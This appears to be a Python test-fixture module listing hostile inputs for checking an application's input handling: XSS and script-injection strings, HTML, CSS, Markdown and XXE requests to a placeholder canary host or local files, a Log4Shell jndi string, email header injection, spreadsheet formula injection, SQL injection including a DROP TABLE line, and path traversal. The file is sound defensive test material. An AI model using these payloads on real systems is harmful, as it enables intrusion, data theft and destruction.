"""Texts that a hostile or careless author may put in any field: script, markup, requests to other hosts, broken headers, odd letters.

HOST and FILE in them are places that must never be reached: give a server and a file of your own to payloads() and see that nobody came.
"""

from collections.abc import Iterable

SCRIPTS = [
    "<script>fetch('HOST/script')</script>",
    "<SCRIPT SRC=HOST/script.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=\"fetch('HOST/onerror')\">",
    "<img src=x:x onerror=alert(1)//",
    "<svg onload=fetch('HOST/svg')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:fetch('HOST/link')\">klikk</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
REQUESTS = [
    '<img src="HOST/img.png">',
    '<img srcset="HOST/srcset.png 2x">',
    '<link rel=stylesheet href="HOST/style.css">',
    '<link rel=attachment href="file://FILE">',
    '<link rel=attachment href="HOST/attachment">',
    '<a rel=attachment href="file://FILE">vedlegg</a>',
    '<object data="file://FILE"></object>',
    '<embed src="file://FILE">',
    '<iframe src="file://FILE"></iframe>',
    '<base href="HOST/">',
    '<meta http-equiv=refresh content="0;url=HOST/refresh">',
    "<style>@import url(HOST/import.css);</style>",
    "<style>body{background:url(HOST/background)}</style>",
    "<style>@font-face{font-family:x;src:url(HOST/font)}*{font-family:x}</style>",
    "<style>@page{size:1px}</style>",
    '<p style="background:url(HOST/inline)">',
    '<p style="content:url(file://FILE)">',
    '<svg><image href="file://FILE"/></svg>',
    "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><use xlink:href='HOST/use#x'/></svg>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file://FILE">]><x>&e;</x>',
    '<xi:include href="file://FILE" parse="text"/>',
    "![bilde](HOST/markdown.png)",
    "![bilde](file://FILE)",
    "[![x](HOST/nested.png)](HOST/link)",
    "[lenke](javascript:alert(1))",
    "[lenke](data:text/html;base64,PHNjcmlwdD4=)",
    "[lenke](file://FILE)",
    "[lenke]: javascript:alert(1)\n\n[lenke]",
    "<javascript:alert(1)>",
    "<HOST/autolink>",
    '{{ settings.SECRET_KEY }} {% include "FILE" %} {% debug %}',
    "${jndi:ldap://HOST/x}",
    "url(HOST/plain)",
]
HEADERS = [
    "Emne\r\nBcc: alle@example.test",
    "Emne\nX-Header: x",
    "Emne\r\n\r\n<p>ny kropp</p>",
    "Emne%0d%0aBcc:%20alle@example.test",
    "Emne\u2028Bcc: alle@example.test",
]
FORMULAS = ['=HYPERLINK("HOST/formula")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
LETTERS = [
    "\u202eetsisreb",
    "a\u0300\u0301\u0302\u0303" * 40,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇳🇴",
    "ﷺ" * 20,
    "\ufeff\u200b\u200c\u200d",
    "W" * 400,
    "Ä" * 60 + " " + "å" * 60,
    "\x01\x02\x1b[31m\x7f",
    "ukjent\ufffdtegn \ufffe",
    "' OR 1=1 --",
    "'; DROP TABLE projects_project; --",
    "../../../../FILE",
    "%s %(x)s {0} {x}",
    "*" * 300,
    "[" * 300,
    ">" * 300 + " dypt",
]
PATTERNS = [*SCRIPTS, *REQUESTS, *HEADERS, *FORMULAS, *LETTERS]
"""More than sixty; none holds a zero byte, which no database takes."""


def payloads(host: str = "http://canary.example.test", file: str = "/etc/hostname", patterns: Iterable[str] = PATTERNS) -> list[str]:
    return [pattern.replace("HOST", host).replace("FILE", file) for pattern in patterns]


def deep_list(depth: int = 60) -> str:
    """Markdown lists inside one another."""
    return "\n".join(f"{'  ' * level}- punkt {level}" for level in range(depth))


def many_words(count: int = 120_000) -> str:
    return "\n\n".join("kommune " * 200 for _ in range(count // 200))
